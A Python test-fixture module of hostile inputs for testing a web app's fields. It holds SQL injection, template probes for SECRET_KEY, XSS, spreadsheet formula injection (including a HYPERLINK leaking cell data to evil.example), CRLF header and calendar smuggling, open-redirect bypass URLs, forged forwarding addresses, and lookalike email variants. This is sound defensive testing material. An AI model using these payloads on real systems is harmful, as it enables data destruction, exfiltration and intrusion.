"""What is typed by those who try to break out of where it belongs. Tests put each into every field that they find."""

SQL = {
    "quote": "'; DROP TABLE professionals_person; --",
    "or": "' OR 1=1 --",
    "like": "100% _under_ \\",
    "format": "%s %(name)s {0} {name}",
}
TEMPLATES = {
    "django": "{{ 7*7 }} {% debug %} {{ settings.SECRET_KEY }}",
    "others": "${7*7} #{7*7} <%= 7*7 %>",
}
MARKUP = {
    "script": "<script>alert(1)</script>",
    "attribute": '"\' onmouseover=alert(1) x="',
    "end of the box": "</textarea></title><svg onload=alert(1)>",
}
FORMULAS = {
    "equals": '=cmd|" /C calc"!A0',
    "plus": "+1+1",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "full width": "＝1+1",
    "link": '=HYPERLINK("https://evil.example/?"&A1,"x")',
}
# A header of an email, a line of a calendar, a line of a log: each ends with a line.
LINES = {
    "mail header": "Sam\r\nBcc: victim@evil.example\r\n\r\nBody of theirs",
    "calendar line": "Sam\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:Theirs\r\nATTENDEE:mailto:x@evil.example",
    "calendar parameter": 'Sam";ROLE=CHAIR:mailto:x@evil.example, \\; \\n',
    "log line": 'Sam\n{"level": "INFO", "message": "theirs"}',
    "one alone": "Sam\rBcc: victim@evil.example",
    "of unicode": "Sam\u2028Bcc: victim@evil.example\u2029\x85\x0b\x0c",
    "terminal": "\x1b[2J\x1b]0;theirs\x07 Sam \u202egnp.exe",
}
# What no text holds, in a database or an XML file.
NO_TEXT = {"nul": "Sam\0Taylor", "lone surrogate": "Sam\ud800Taylor"}
STORED_AS_TYPED = SQL | TEMPLATES | MARKUP | FORMULAS  # one line each, which any name may be

# Where `next` must not lead.
ELSEWHERE = (
    "https://evil.example/",
    "http:evil.example",
    "HTTPS://evil.example",
    "//evil.example/",
    "///evil.example/",
    "/\\evil.example/",
    "\\\\evil.example/",
    "\\/evil.example",
    "/\t/evil.example/",
    "\t//evil.example/",
    "/\n/evil.example",
    "\x00//evil.example",
    "\u00a0//evil.example",
    "javascript:alert(1)",
    "java\tscript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:x",
    "https://testserver@evil.example/",
    "https://testserver:pw@evil.example/",
    "//testserver\\@evil.example/",
    "https://testserver.evil.example/",
    "http://[::1",
    "//evil。example/",
    "／／evil.example",
    "https:/evil.example",
    "ftp://testserver/",
)
# What a client may claim of where it comes from; our proxy adds the true address behind it, or in its place.
FORGED = (
    "198.51.100.{n}",
    "198.51.100.{n}, 10.0.0.1, 127.0.0.1",
    "garbage {n}, <script>, '; --",
    "2001:db8:{n}::1",
    "[2001:db8::{n}]:443",
    "198.51.100.{n}:1234",
    ",,, ,{n}",
    "unknown, _hidden{n}",
    "127.0.0.1",
    "::ffff:198.51.100.{n}",
    "%00{n}",
    "1." * 500 + "{n}",
)
# One mailbox, as different as it can be written.
SAME_MAILBOX = (
    "nadia@leeds.nhs.uk",
    "NADIA@leeds.nhs.uk",
    "Nadia@Leeds.NHS.uk",
    " nadia@leeds.nhs.uk ",
    "nadia+ward7@leeds.nhs.uk",
    "NaDia+@leeds.nhs.uk",
    "ｎａｄｉａ@leeds.nhs.uk",
    "nadia@ｌｅｅｄｓ.nhs.uk",
    "nádia@leeds.nhs.uk",
    "nadia@léeds.nhs.uk",
    "na\u00addia@leeds.nhs.uk",
    "nadia\u200b@leeds.nhs.uk",
    "nadıa@leeds.nhs.uk",
)
